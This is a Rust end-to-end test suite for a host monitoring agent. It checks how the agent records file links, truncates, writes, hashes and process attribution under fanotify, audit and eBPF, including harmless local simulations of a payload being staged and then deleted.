fn links_are_told_apart_beside_fanotify_by_audit_rules() {
    links_told_apart(
        "links_are_told_apart_beside_fanotify_by_audit_rules",
        "audit",
    );
}

fn links_told_apart(test: &str, process: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let by_ebpf = process != "audit";
    let work = tempfile::tempdir().unwrap();
    let dir = std::fs::canonicalize(work.path()).unwrap();
    let mut agent = Agent::start(&format!(
        "[sources]\nprocess = {process:?}\n[network]\nenabled = false\n[files]\n\
         source = \"fanotify\"\n"
    ));
    let status = agent.status();
    let (source, told) = if by_ebpf {
        (
            "ebpf",
            "links, symlinks and truncates from their calls' tracepoints",
        )
    } else {
        ("audit", "chmod and chown, links and symlinks via")
    };
    let detail = status_source(&status, source).expect("the source telling the calls")["detail"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(detail.contains(told), "{detail}");
    // coreutils' truncate opens the file and calls ftruncate (fanotify may merge its
    // "modified" with the close); perl's, truncate(2) by path; the second ln is refused; rm
    // drops a's link count.
    let script = "cd \"$1\" && echo one > a && ln a b && ln -s a c && truncate -s 1 a && \
                  perl -e 'truncate(\"b\", 0) or die' && { ln a b 2>/dev/null; true; } && \
                  rm b && echo end > z";
    let mut shell = Proc::spawn(Command::new("/bin/sh").args(["-c", script, "sh"]).arg(&dir));
    assert!(shell.wait().success());
    let p = |name: &str| s(&dir.join(name));
    let under = format!("{}/*", s(&dir));
    agent.wait_for_matching(&["--path", &under], "the links and truncates", |ev| {
        has(ev, "close_write", |e| file_path(e) == p("z"))
            && (!by_ebpf || has(ev, "truncate", |e| file_path(e) == p("a")))
            && (!by_ebpf || has(ev, "truncate", |e| file_path(e) == p("b")))
            && has(ev, "symlink", |e| file_path(e) == p("c"))
            && has(ev, "link", |e| file_path(e) == p("b"))
            && has(ev, "delete", |e| file_path(e) == p("b"))
    });
    // What fanotify holds back for its call ("attributes changed") has had its time.
    std::thread::sleep(Duration::from_millis(500));
    let events = agent.events(&["--path", &under]);
    let link = the(&events, "link", "ln a b", |e| {
        e["event"]["outcome"] == "success"
    });
    assert_eq!(file_path(link), p("b"), "{link}");
    assert_eq!(link["file"]["target_path"], p("a").as_str(), "{link}");
    assert_eq!(link["warden"]["source"], source, "{link}");
    assert_eq!(link["warden"]["syscall"], "linkat", "{link}");
    // Audit's records of a refused link name the directory, not the name asked for (the
    // kernel stopped before recording it); eBPF reads the name from the call.
    let refusals = agent.events(&["--class", "link", "--failure"]);
    let refused = the(&refusals, "link", "the second ln a b", |e| {
        file_path(e) == if by_ebpf { p("b") } else { s(&dir) }
    });
    assert_eq!(refused["warden"]["syscall_exit"], -17, "EEXIST: {refused}");
    assert_eq!(refused["file"]["target_path"], p("a").as_str(), "{refused}");
    let symlink = the(&events, "symlink", "ln -s a c", |e| file_path(e) == p("c"));
    assert_eq!(symlink["file"]["target_path"], "a", "{symlink}");
    assert_eq!(symlink["warden"]["source"], source, "{symlink}");
    let ln = pid_of(link);
    let rm = pid_of(the(&events, "delete", "rm b", |e| file_path(e) == p("b")));
    let truncators: Vec<u64> = if by_ebpf {
        let ftruncate = the(&events, "truncate", "truncate -s 1 a", |e| {
            file_path(e) == p("a")
        });
        assert_eq!(ftruncate["warden"]["syscall"], "ftruncate", "{ftruncate}");
        assert_eq!(ftruncate["warden"]["source"], "ebpf", "{ftruncate}");
        let truncate = the(&events, "truncate", "perl's truncate", |e| {
            file_path(e) == p("b")
        });
        assert_eq!(truncate["warden"]["syscall"], "truncate", "{truncate}");
        assert!(has(&events, "close_write", |e| pid_of(e)
            == pid_of(ftruncate)
            && file_path(e) == p("a")));
        vec![pid_of(ftruncate), pid_of(truncate)]
    } else {
        // Without eBPF a truncate is fanotify's modification.
        assert!(!has(&events, "truncate", |_| true));
        assert!(has(&events, "modify", |e| file_path(e) == p("b")));
        Vec::new()
    };
    // Not recorded again from fanotify: b's and c's creation, the link counts' "attributes
    // changed" (ln's and rm's), the truncates' "modified" where eBPF tells them. The rest of
    // fanotify's reports are.
    for e in &events {
        let (act, path, pid) = (action(e), file_path(e), pid_of(e));
        let twice = (act == "create" && (path == p("b") || path == p("c")))
            || (act == "attrib" && (pid == ln || pid == rm))
            || (act == "modify" && truncators.contains(&pid));
        assert!(!twice, "recorded twice: {e}");
    }
    assert!(has(&events, "create", |e| file_path(e) == p("a")));
    agent.stop();
    kernel.check();
}

/// The test FUSE filesystem holding `files` (name, content, mode), answering everyone until
/// the flag is set; from then on the agents this test process started are not answered.
fn fuse_that_stops_answering_agents(
    files: Vec<(&str, Vec<u8>, u32)>,
) -> (fuse::FuseMount, Arc<AtomicBool>) {
    let ignoring = Arc::new(AtomicBool::new(false));
    let fuse = fuse::FuseMount::serve(files, {
        let ignoring = Arc::clone(&ignoring);
        move |tid| ignoring.load(Ordering::SeqCst) && our_agents_thread(tid)
    })
    .expect("mount the test filesystem");
    (fuse, ignoring)
}

/// Whether thread `tid` is one of an agent this test process started (a `warden` child).
fn our_agents_thread(tid: u32) -> bool {
    let Some(pid) = fuse::process_of(tid) else {
        return false;
    };
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let field = |name: &str| {
        status
            .lines()
            .find_map(|line| line.strip_prefix(name))
            .map(str::trim)
    };
    field("Name:") == Some("warden") && field("PPid:") == Some(&std::process::id().to_string())
}

/// A filesystem whose server stops answering the agent (FUSE here; a hard NFS mount whose
/// server is gone, elsewhere) stalls nothing. The image of an exec there is described by a
/// thread of its own: answered, the exec carries its sha256; unanswered, the exec is recorded
/// without it after a bounded wait, the next one there without any, a file written there
/// undescribed, and the host's later events on time. The mount is made after the agent
/// started: mountinfo's change is noticed.
#[test]
fn a_filesystem_server_that_stops_answering_stalls_nothing() {
    server_stops_answering(
        "a_filesystem_server_that_stops_answering_stalls_nothing",
        "auto",
    );
}

/// The same with audit's execs, which carry no version of the image from the kernel (and no
/// file changes on the FUSE filesystem: without eBPF they come from fanotify, which does not
/// mark it).
#[test]
fn a_filesystem_server_that_stops_answering_stalls_nothing_with_audit_execs() {
    server_stops_answering(
        "a_filesystem_server_that_stops_answering_stalls_nothing_with_audit_execs",
        "audit",
    );
}

fn server_stops_answering(test: &str, process: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    // eBPF's file changes are seen on any filesystem; they run beside eBPF's execs only.
    let files = process != "audit";
    let mut agent = Agent::start(&format!(
        "{}[network]\nenabled = false\n[files]\nsource = {:?}\n",
        process_source(process),
        if files { "ebpf" } else { "off" }
    ));
    // The agent has looked at the mount table before the filesystem is mounted.
    records_an_exec(&agent);
    let image = std::fs::read("/bin/true").expect("read /bin/true");
    // Scripts there too: their interpreter is local, the script is described elsewhere.
    let script = b"#!/bin/sh\nexit 0\n".to_vec();
    let mut served: Vec<_> = ["answered", "stalled", "after"]
        .map(|name| (name, image.clone(), 0o755))
        .to_vec();
    served.extend(["script-answered", "script-stalled"].map(|name| (name, script.clone(), 0o755)));
    let (fuse, ignoring) = fuse_that_stops_answering_agents(served);
    let dir = fuse.path().to_path_buf();
    let digest = sha256(Path::new("/bin/true"));
    let run = |name: &str| {
        let mut child = Proc::spawn(&mut Command::new(dir.join(name)));
        assert!(child.wait().success(), "{name} ran");
        u64::from(child.pid())
    };
    let exec_of = |pid: u64, what: &str| -> Value {
        let events = agent.wait_for_matching(&["--pid", &pid.to_string()], what, |ev| {
            has(ev, "exec", |e| pid_of(e) == pid)
        });
        the(&events, "exec", what, |e| pid_of(e) == pid).clone()
    };

    let answered = run("answered");
    let exec = exec_of(answered, "the exec the server answered for");
    assert_eq!(exec["process"]["hash"]["sha256"], digest.as_str(), "{exec}");
    let script_answered = run("script-answered");
    let exec = exec_of(script_answered, "the script the server answered for");
    let seen = &exec["warden"]["script"];
    assert_eq!(seen["path"], s(&dir.join("script-answered")), "{exec}");
    if process != "audit" {
        // Audit's record gives no version to check a description made elsewhere against.
        assert_eq!(seen["hash"]["sha256"], sha256_of(&script), "{exec}");
    }

    ignoring.store(true, Ordering::SeqCst);
    let script_stalled = run("script-stalled");
    let stalled = run("stalled");
    let mut writer = Proc::spawn(
        Command::new("/bin/sh")
            .args(["-c", "echo data > \"$1\"", "sh"])
            .arg(dir.join("written")),
    );
    assert!(writer.wait().success());
    let after = run("after");
    // The host's next events come on time, its execs described.
    let (_local_dir, local) = true_copy("local");
    let mut child = Proc::spawn(&mut Command::new(&local));
    assert!(child.wait().success());
    let exec = exec_of(u64::from(child.pid()), "an exec after the stalled ones");
    assert_eq!(exec["process"]["hash"]["sha256"], digest.as_str(), "{exec}");

    for (pid, name) in [(stalled, "stalled"), (after, "after")] {
        let exec = exec_of(pid, name);
        assert_eq!(exec["process"]["executable"], s(&dir.join(name)), "{exec}");
        assert!(exec["process"]["hash"].is_null(), "not described: {exec}");
    }
    let exec = exec_of(
        script_stalled,
        "the script the server no longer answers for",
    );
    let seen = &exec["warden"]["script"];
    assert_eq!(seen["path"], s(&dir.join("script-stalled")), "{exec}");
    assert!(seen["hash"].is_null(), "not described: {exec}");
    assert!(
        !exec["process"]["hash"].is_null(),
        "its local interpreter is: {exec}"
    );
    if files {
        let under = format!("{}/*", s(&dir));
        let events = agent.wait_for_matching(&["--path", &under], "the written file", |ev| {
            has(ev, "close_write", |e| file_path(e).ends_with("/written"))
        });
        let written = the(&events, "close_write", "written", |e| {
            file_path(e).ends_with("/written")
        });
        assert!(
            written["file"]["size"].is_null(),
            "not described: {written}"
        );
    }
    assert!(
        fuse.ignored() >= 1,
        "the agent asked the server and was not answered"
    );
    // eBPF's: the answered image and script described; the stalled script waited for (late),
    // the two images after it not (busy: the thread still waits on the server). Audit's
    // scripts are not asked of the thread (no version to check its answer against).
    let (described, busy) = if process == "audit" { (1, 1) } else { (2, 2) };
    poll("the served files' counts in the status", || {
        let caches = agent.status()["caches"].clone();
        (caches["executables/described_served"].as_u64() == Some(described)
            && caches["executables/not_described_served_late"].as_u64() == Some(1)
            && caches["executables/not_described_served_busy"].as_u64() == Some(busy)
            && (!files || caches["written/not_described_served"].as_u64() >= Some(1)))
        .then_some(())
    });
    // The connection ends: the thread's look fails and it can look again.
    drop(fuse);
    agent.stop();
    kernel.check();
}

/// An agent starts beside a filesystem whose server does not answer it, though a watched path
/// lies there: the start does not look there (and says so), and the other watches work.
#[test]
fn a_watch_on_a_filesystem_whose_server_does_not_answer_keeps_no_start_waiting_with_fanotify() {
    unanswered_watch(
        "a_watch_on_a_filesystem_whose_server_does_not_answer_keeps_no_start_waiting_with_fanotify",
        "fanotify",
    );
}

#[test]
fn a_watch_on_a_filesystem_whose_server_does_not_answer_keeps_no_start_waiting_with_audit() {
    unanswered_watch(
        "a_watch_on_a_filesystem_whose_server_does_not_answer_keeps_no_start_waiting_with_audit",
        "audit",
    );
}

fn unanswered_watch(test: &str, source: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let (fuse, ignoring) =
        fuse_that_stops_answering_agents(vec![("secret", b"key".to_vec(), 0o600)]);
    ignoring.store(true, Ordering::SeqCst);
    let work = tempfile::tempdir().unwrap();
    let local = std::fs::canonicalize(work.path())
        .unwrap()
        .join("local-secret");
    std::fs::write(&local, b"key").unwrap();
    let served = fuse.path().join("secret");
    let mut agent = Agent::start(&format!(
        "[network]\nenabled = false\n[files]\nsource = {source:?}\n\
         watch_paths = [{:?}, {:?}]\n",
        s(&served),
        s(&local)
    ));
    let log = agent.log();
    assert!(
        log.contains(&format!(
            "{} (fuse.warden-test): its server did not answer",
            s(fuse.path())
        )),
        "{log}"
    );
    let out = Command::new("/bin/cat").arg(&local).output().unwrap();
    assert!(out.status.success());
    agent.wait_for_matching(
        &["--path", &s(&local), "--class", "read"],
        "the local read",
        |ev| has(ev, "read", |e| file_path(e) == s(&local)),
    );
    records_an_exec(&agent);
    drop(fuse);
    agent.stop();
    kernel.check();
}

/// Bytes waiting in a pipe for its reader.
fn unread_bytes(pipe: &impl std::os::fd::AsRawFd) -> usize {
    let mut unread: libc::c_int = 0;
    // SAFETY: FIONREAD writes one int through the pointer.
    let r = unsafe { libc::ioctl(pipe.as_raw_fd(), libc::FIONREAD, &mut unread) };
    assert_eq!(r, 0, "FIONREAD: {}", std::io::Error::last_os_error());
    usize::try_from(unread).unwrap_or(0)
}

/// The JSON lines on standard output never hold the agent. A reader that takes nothing while
/// its pipe is full: the events go on being recorded, and the lines wait for it, in order, to
/// be read later. A reader that goes away: the agent says so once and records on.
#[test]
fn a_reader_of_the_printed_events_never_holds_the_agent() {
    let Some((_serial, kernel)) = begin("a_reader_of_the_printed_events_never_holds_the_agent")
    else {
        return;
    };
    let mut agent = Agent::start_piped(
        "[network]\nenabled = false\n[output]\nstdout = true\n",
        Piped::Stdout,
    );
    let printed = agent.child.stdout.take().expect("piped");
    // Far more lines than a pipe holds (64 KiB at most), none read: the pipe fills, as far as
    // lines fill its pages.
    let mut loop_ = Proc::spawn(Command::new("/bin/sh").args([
        "-c",
        "i=0; while [ $i -lt 400 ]; do /bin/true; i=$((i+1)); done",
    ]));
    assert!(loop_.wait().success());
    let mut before = 0;
    poll("the pipe full", || {
        std::thread::sleep(Duration::from_millis(300));
        let unread = unread_bytes(&printed);
        let full = unread >= 16 * 1024 && unread == before;
        before = unread;
        full.then_some(())
    });
    // The agent records on while its reader takes nothing.
    let mut child = Proc::spawn(&mut Command::new("/bin/true"));
    assert!(child.wait().success());
    let last = u64::from(child.pid());
    agent.wait_for_matching(
        &["--pid", &last.to_string()],
        "an exec while the pipe is full",
        |ev| has(ev, "exec", |e| pid_of(e) == last),
    );
    // The reader comes back: every line is there, whole, the last exec among them.
    let reader = std::thread::spawn(move || {
        let mut lines = BufReader::new(printed).lines();
        let mut count = 0;
        loop {
            let line = lines.next().expect("a line").expect("read");
            let event: Value =
                serde_json::from_str(&line).unwrap_or_else(|e| panic!("{e}: {line}"));
            count += 1;
            if action(&event) == "exec" && pid_of(&event) == last {
                // The reader goes away.
                return count;
            }
        }
    });
    let count = reader.join().expect("the reader");
    assert!(count > 400, "{count} lines before the last exec");
    // The next line the agent prints finds no reader.
    poll("the closed output said", || {
        records_an_exec(&agent);
        agent.log().contains("standard output failed").then_some(())
    });
    records_an_exec(&agent);
    poll("the lines not printed counted", || {
        (agent.status()["lost"]["stdout/closed"].as_u64() > Some(0)).then_some(())
    });
    assert_eq!(agent.log().matches("standard output failed").count(), 1);
    agent.stop();
    kernel.check();
}

/// Standard error closed under the agent (its reader gone): the agent records on, and its
/// stop, which says so there, still restores the audit state and ends it cleanly. Saying
/// anything there ended it (a panic) before.
#[test]
fn a_closed_standard_error_ends_nothing() {
    let Some((_serial, kernel)) = begin("a_closed_standard_error_ends_nothing") else {
        return;
    };
    let mut agent = Agent::start_piped(&process_source("audit"), Piped::Stderr);
    let said = agent.child.stderr.take().expect("piped");
    let mut banner = String::new();
    BufReader::new(said)
        .read_line(&mut banner)
        .expect("the first line");
    assert!(banner.contains("recording"), "{banner}");
    // The reader goes away (the BufReader took the pipe with it).
    records_an_exec(&agent);
    agent.stop();
    kernel.check();
}

/// A watched path whose mark the kernel refuses is said, with why, in the fanotify source's
/// line; one missing (marked once made) is not. FUSE filesystems report no fsid, which
/// fanotify's file-handle events need beside other filesystems' marks.
#[test]
fn a_refused_watch_is_said() {
    let Some((_serial, kernel)) = begin("a_refused_watch_is_said") else {
        return;
    };
    let (fuse, _) = fuse_that_stops_answering_agents(vec![("secret", b"key".to_vec(), 0o600)]);
    let served = s(&fuse.path().join("secret"));
    let work = tempfile::tempdir().unwrap();
    let missing = s(&std::fs::canonicalize(work.path()).unwrap().join("not-yet"));
    let mut agent = Agent::start(&format!(
        "[network]\nenabled = false\n[files]\nwatch_paths = [{served:?}, {missing:?}]\n"
    ));
    let fanotify = status_source(&agent.status(), "fanotify").expect("fanotify's line");
    let detail = fanotify["detail"].as_str().unwrap_or_default().to_string();
    assert!(
        detail.contains(&format!("{served} not watched: its filesystem has no fsid")),
        "{detail}"
    );
    assert!(!detail.contains(&missing), "{detail}");
    drop(fuse);
    agent.stop();
    kernel.check();
}

/// The stop ends on time while a reader of the agent waits on a server that stopped answering
/// it: here the watches' reader, re-marking a watched file replaced on such a filesystem. (A
/// FUSE request its server has read is waited out even by a killed process: the agent's
/// process ends once the test's server goes.)
#[test]
fn a_stop_waits_on_no_server() {
    let Some((_serial, kernel)) = begin("a_stop_waits_on_no_server") else {
        return;
    };
    let (fuse, ignoring) =
        fuse_that_stops_answering_agents(vec![("secret", b"key".to_vec(), 0o600)]);
    let secret = fuse.path().join("secret");
    // Its only watch: a group without fsids may mark one filesystem alone.
    let mut agent = Agent::start(&format!(
        "[network]\nenabled = false\n[files]\nwatch_reads = false\nwatch_paths = [{:?}]\n",
        s(&secret)
    ));
    let fanotify = status_source(&agent.status(), "fanotify").expect("fanotify's line");
    assert!(
        fanotify["detail"]
            .as_str()
            .unwrap_or_default()
            .contains("(1 watched"),
        "{fanotify}"
    );
    ignoring.store(true, Ordering::SeqCst);
    std::fs::remove_file(&secret).unwrap();
    std::fs::write(&secret, b"new key").unwrap();
    poll("the agent asking the server", || {
        (fuse.ignored() > 0).then_some(())
    });
    signal(agent.pid(), Signal::SIGTERM);
    poll("the stop done", || {
        agent
            .log()
            .contains("warden: stopped after recording")
            .then_some(())
    });
    drop(fuse);
    agent.stop();
    kernel.check();
}

/// The data dir or the JSON-lines file on a network or FUSE filesystem is said at the start,
/// before either is touched: a server that stops answering would hold the recording there.
#[test]
fn outputs_on_a_served_filesystem_are_said() {
    let Some((_serial, kernel)) = begin("outputs_on_a_served_filesystem_are_said") else {
        return;
    };
    let (fuse, _) = fuse_that_stops_answering_agents(Vec::new());
    let file = s(&fuse.path().join("events.jsonl"));
    let mut agent = Agent::start(&format!("[output]\nfile = {file:?}\n"));
    let log = agent.log();
    let said = format!("the JSON-lines file {file} is on a fuse.warden-test filesystem");
    assert!(log.contains(&said), "{log}");
    assert!(!log.contains("the data dir"), "{log}");
    records_an_exec(&agent);
    agent.stop();
    // The lines went there all the same.
    let lines = std::fs::read_to_string(&file).expect("the JSON-lines file");
    assert!(lines.lines().count() > 0);
    drop(fuse);
    kernel.check();
}

/// A file written and deleted at once — a staged archive sent off and removed, a dropper's
/// payload — is described as the close after writing left it: the fanotify reader holds the
/// file open from the moment it reads the event, well before the pipeline describes it.
#[test]
fn files_deleted_at_once_are_described_as_written() {
    let Some((_serial, kernel)) = begin("files_deleted_at_once_are_described_as_written") else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let dir = std::fs::canonicalize(work.path()).unwrap();
    let mut agent = Agent::start("[network]\nenabled = false\n[files]\n");
    // Each deleted 20 ms after its close: well before the pipeline's look at it, which comes
    // 50 ms or more after the change.
    let script = "cd \"$1\" && for i in 1 2 3 4 5; do echo staged $i > out$i && sleep 0.02 && \
                  rm out$i; done";
    let mut shell = Proc::spawn(Command::new("/bin/sh").args(["-c", script, "sh"]).arg(&dir));
    assert!(shell.wait().success());
    let p = |i: u32| s(&dir.join(format!("out{i}")));
    let under = format!("{}/*", s(&dir));
    let events = agent.wait_for_matching(&["--path", &under], "the files' deletions", |ev| {
        (1..=5).all(|i| has(ev, "delete", |e| file_path(e) == p(i)))
    });
    for i in 1..=5 {
        let written = the(&events, "close_write", "a staged file", |e| {
            file_path(e) == p(i)
        });
        let content = format!("staged {i}\n");
        assert_eq!(
            written["file"]["hash"]["sha256"],
            sha256_of(content.as_bytes()),
            "{written}"
        );
        assert_eq!(written["file"]["size"], content.len(), "{written}");
    }
    poll("the written files held", || {
        (agent.status()["caches"]["written/held"].as_u64() >= Some(5)).then_some(())
    });
    // All given back (polled: a file written elsewhere on the host meanwhile is held too,
    // for as long as it takes to describe it).
    poll("the held files given back", || {
        (agent.status()["caches"]["written/held_now"] == 0).then_some(())
    });
    // The agent's reads are no one's use of a file: a file it hashed keeps the access time
    // its writing left (under relatime, a read after a write would move it past the mtime).
    let kept = dir.join("kept");
    std::fs::write(&kept, "kept\n").unwrap();
    agent.wait_for_matching(&["--path", &s(&kept)], "the kept file hashed", |ev| {
        has(ev, "close_write", |e| !e["file"]["hash"].is_null())
    });
    let meta = std::fs::metadata(&kept).unwrap();
    assert!(
        meta.accessed().unwrap() <= meta.modified().unwrap(),
        "read by the agent without its atime moving: {meta:?}"
    );
    agent.stop();
    kernel.check();
}

/// A change that leaves a file written (a close after writing, a rename's new name) carries
/// the file as the agent found it: its sha256, size and times, in the event and in
/// `file_events`; a file over `files.hash_max_size` without its sha256 (`hashed` -1), and a
/// file gone before the agent looked without any.
/// A dropper that stages its payload in /dev/shm (memory only, and under /dev, which is
/// excluded) is recorded on the embedded defaults: written, described, run, deleted.
#[test]
fn a_payload_staged_in_dev_shm_is_recorded_by_default() {
    let Some((_serial, kernel)) = begin("a_payload_staged_in_dev_shm_is_recorded_by_default")
    else {
        return;
    };
    let mounts = std::fs::read_to_string("/proc/self/mounts").unwrap();
    if !mounts
        .lines()
        .any(|l| l.split(' ').nth(1) == Some("/dev/shm"))
    {
        eprintln!("skipped: no /dev/shm mount here");
        return;
    }
    // The files' defaults (the harness turns files off unless a test speaks of them).
    let mut agent = Agent::start("[files]\n");
    let payload = format!("/dev/shm/.warden-e2e-{}", std::process::id());
    let script = "printf 'stage 2' > \"$1\" && cat \"$1\" > /dev/null && rm \"$1\"";
    let mut shell = Proc::spawn(Command::new("/bin/sh").args(["-c", script, "sh", &payload]));
    assert!(shell.wait().success());
    let pid = u64::from(shell.pid());
    let events = agent.wait_for_matching(&["--path", &payload], "the payload's life", |ev| {
        has(ev, "delete", |e| file_path(e) == payload)
    });
    // Written by the shell itself; deleted by its rm.
    for action in ["create", "close_write"] {
        let e = the(&events, action, action, |e| file_path(e) == payload);
        assert_eq!(pid_of(e), pid, "{e}");
    }
    let deleted = the(&events, "delete", "rm", |e| file_path(e) == payload);
    assert_eq!(deleted["process"]["parent"]["pid"], pid, "{deleted}");
    // sha256 of "stage 2", read as the close after writing was handled.
    let written = the(&events, "close_write", "close_write", |e| {
        file_path(e) == payload
    });
    assert_eq!(
        written["file"]["hash"]["sha256"],
        "0f1c048ac66790e8a76a644614fc92291085c4033335d38eeef001cde846de34",
        "{written}"
    );
    agent.stop();
    kernel.check();
}

#[test]
fn written_files_are_described_with_their_digest() {
    let Some((_serial, kernel)) = begin("written_files_are_described_with_their_digest") else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let dir = std::fs::canonicalize(work.path()).unwrap();
    // Only this test's files: what the rest of the host writes meanwhile would draw on the
    // same budget of three a second.
    let mut agent = Agent::start(&format!(
        "[network]\nenabled = false\n[files]\nhash_max_size = \"1KiB\"\ndescribe_per_second = 3\n\
         exclude_paths = [\"/\"]\ninclude_paths = [{:?}]\n",
        s(&dir)
    ));
    // curl's way: written under a temporary name, then moved into place; a large file; a
    // file gone at once; then more files than three a second are described.
    let script = "cd \"$1\" && printf 'payload v1' > .part && mv .part updater && \
                  head -c 4096 /dev/zero > big && echo brief > gone && rm gone && \
                  for i in 1 2 3 4 5 6 7 8 9 10; do echo $i > many$i; done";
    let mut shell = Proc::spawn(Command::new("/bin/sh").args(["-c", script, "sh"]).arg(&dir));
    assert!(shell.wait().success());
    let p = |name: &str| s(&dir.join(name));
    let under = format!("{}/*", s(&dir));
    let events = agent.wait_for_matching(&["--path", &under], "the written files", |ev| {
        has(ev, "rename", |e| file_path(e) == p("updater"))
            && has(ev, "close_write", |e| file_path(e) == p("big"))
            && has(ev, "delete", |e| file_path(e) == p("gone"))
            && has(ev, "close_write", |e| file_path(e) == p("many10"))
    });
    // sha256 of "payload v1".
    let payload_sha256 = "e372d8b518531e7f19a527f2a7b9a4556ef5c27ea691124dcc0854b1ac3f6508";
    let moved = the(&events, "rename", "mv .part updater", |e| {
        file_path(e) == p("updater")
    });
    assert_eq!(moved["file"]["hash"]["sha256"], payload_sha256, "{moved}");
    assert_eq!(moved["file"]["size"], 10, "{moved}");
    assert!(moved["file"]["mtime"].is_string(), "{moved}");
    assert_eq!(moved["warden"]["file"]["content"]["size"], 10, "{moved}");
    // praudit-style: BSM's attribute token of the rename carries the digest and the size.
    let xml = agent.events_output(&["--sha256", payload_sha256], "xml");
    let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{e}: {xml}"));
    assert!(
        doc.descendants().any(|n| n.has_tag_name("attribute")
            && n.attribute("sha256") == Some(payload_sha256)
            && n.attribute("size") == Some("10")),
        "{xml}"
    );
    // Found by its digest's start, in lower or upper case: the close after writing that left
    // it under its temporary name (held from then: renamed since), and the rename, only.
    // (In either order: fanotify stamps an event when it is read, or with its process's exit
    // when that came first — mv's rename can be stamped before the shell's close.)
    let by_digest = agent.events(&["--sha256", &payload_sha256[..12].to_uppercase()]);
    let mut found: Vec<_> = by_digest
        .iter()
        .map(|e| (action(e), file_path(e)))
        .collect();
    found.sort();
    let (part, updater) = (p(".part"), p("updater"));
    assert_eq!(
        found,
        [("close_write", part.as_str()), ("rename", updater.as_str())],
        "{by_digest:?}"
    );
    let big = the(&events, "close_write", "head > big", |e| {
        file_path(e) == p("big")
    });
    assert!(big["file"]["hash"].is_null(), "over hash_max_size: {big}");
    assert_eq!(big["file"]["size"], 4096, "{big}");
    // Removed at once: held from its close after writing, so described as it was, when this
    // second's budget of three allowed (`files_deleted_at_once_are_described_as_written`).
    if let Some(gone) = find(&events, "close_write", |e| file_path(e) == p("gone"))
        && !gone["file"]["size"].is_null()
    {
        assert_eq!(
            gone["file"]["hash"]["sha256"],
            sha256_of(b"brief\n"),
            "{gone}"
        );
    }
    let query = format!(
        "SELECT target_path, action, sha256, size, hashed, mtime > 0 AS dated FROM file_events \
         WHERE target_path IN ('{}', '{}') AND action IN ('MOVED_TO', 'UPDATED') \
         ORDER BY target_path",
        p("big"),
        p("updater")
    );
    let rows = agent.query_rows(&query);
    let want = [
        format!("{},UPDATED,,4096,-1,1", p("big")),
        format!("{},MOVED_TO,{payload_sha256},10,1,1", p("updater")),
    ];
    assert!(rows.contains(&want[0]), "{rows:?}");
    assert!(rows.contains(&want[1]), "{rows:?}");
    // The same rename in osquery's audit monitor's columns, joined by the process's identity
    // to the exec that started it.
    let query = format!(
        "SELECT f.operation, f.path, f.dest_path, f.sha256, f.partial, f.uid, f.uptime > 0, \
         e.cmdline FROM process_file_events f JOIN process_events e ON e.entity_id = f.entity_id \
         WHERE f.dest_path = '{}'",
        p("updater")
    );
    let rows = agent.query_rows(&query);
    let want = format!(
        "rename,{part},{updater},{payload_sha256},false,0,1,mv .part updater",
        part = p(".part"),
        updater = p("updater")
    );
    assert_eq!(rows, [want], "{query}");
    // Three files described in a second: .part (gone by then), updater, big; not the ten
    // (three of them at most, should the handling of the ten straddle a second's end).
    let many: Vec<&Value> = events
        .iter()
        .filter(|e| action(e) == "close_write" && file_path(e).starts_with(&p("many")))
        .collect();
    assert_eq!(many.len(), 10, "{many:?}");
    let described = many.iter().filter(|e| !e["file"]["size"].is_null()).count();
    assert!(described <= 3, "{described} of ten described: {many:?}");
    // The status file, written each second, counts what was hashed and what was not.
    poll("the written files' counts in the status", || {
        let caches = agent.status()["caches"].clone();
        (caches["written/bytes_hashed"].as_u64() >= Some(10)
            && caches["written/not_hashed_too_large"].as_u64() >= Some(1)
            && caches["written/not_described_over_budget"].as_u64() >= Some(7))
        .then_some(())
    });
    agent.stop();
    kernel.check();
}

#[test]
fn file_changes_are_recorded_with_ebpf() {
    file_changes_are_recorded("file_changes_are_recorded_with_ebpf", "ebpf", "auto");
}

/// A process that changes a file and exits at once (cp, mv, rm in a script) is gone before
/// the file source's event of it is handled: the event still names it, as its exec event does.
#[test]
fn short_lived_processes_file_changes_name_them() {
    short_lived_file_changes(
        "short_lived_processes_file_changes_name_them",
        "auto",
        "fanotify",
    );
}

#[test]
fn short_lived_processes_file_changes_name_them_from_audit() {
    short_lived_file_changes(
        "short_lived_processes_file_changes_name_them_from_audit",
        "audit",
        "fanotify",
    );
}

#[test]
fn short_lived_processes_file_changes_name_them_by_audit_rules() {
    short_lived_file_changes(
        "short_lived_processes_file_changes_name_them_by_audit_rules",
        "auto",
        "audit",
    );
}

fn short_lived_file_changes(test: &str, process: &str, files: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let original = work.path().join("original");
    std::fs::write(&original, b"copied\n").unwrap();
    let mut agent = Agent::start(&format!(
        "[sources]\nprocess = {process:?}\n[network]\nenabled = false\n\
         [files]\nsource = {files:?}\n"
    ));
    let cp = canonical("/bin/cp");
    let mut copies = Vec::new();
    for i in 0..10 {
        let copy = work.path().join(format!("copy{i}"));
        let mut p = Proc::spawn(Command::new(&cp).arg(&original).arg(&copy));
        assert!(p.wait().success());
        copies.push((u64::from(p.pid()), s(&copy)));
    }
    let events = agent.wait_for("10 copies made and their execs and exits", |ev| {
        copies.iter().all(|(pid, copy)| {
            has(ev, "create", |e| file_path(e) == copy.as_str())
                && has(ev, "exec", |e| pid_of(e) == *pid)
                && has(ev, "exit", |e| pid_of(e) == *pid)
        })
    });
    for (pid, copy) in &copies {
        let exec = the(&events, "exec", "a cp", |e| pid_of(e) == *pid);
        let created = the(&events, "create", copy, |e| file_path(e) == copy.as_str());
        assert_eq!(pid_of(created), *pid, "{created}");
        assert_eq!(entity_of(created), entity_of(exec), "{created}");
        assert_eq!(created["process"]["executable"], cp.as_str(), "{created}");
        assert_eq!(created["warden"]["source"], files, "{created}");
        // Its time is no later than the process's exit (fanotify's is when it was read), with
        // either process source.
        if files == "fanotify" {
            let exit = the(&events, "exit", "a cp's exit", |e| pid_of(e) == *pid);
            let time = |e: &Value| e["@timestamp"].as_str().unwrap().to_string();
            assert!(time(created) <= time(exit), "{created}\n{exit}");
        }
    }
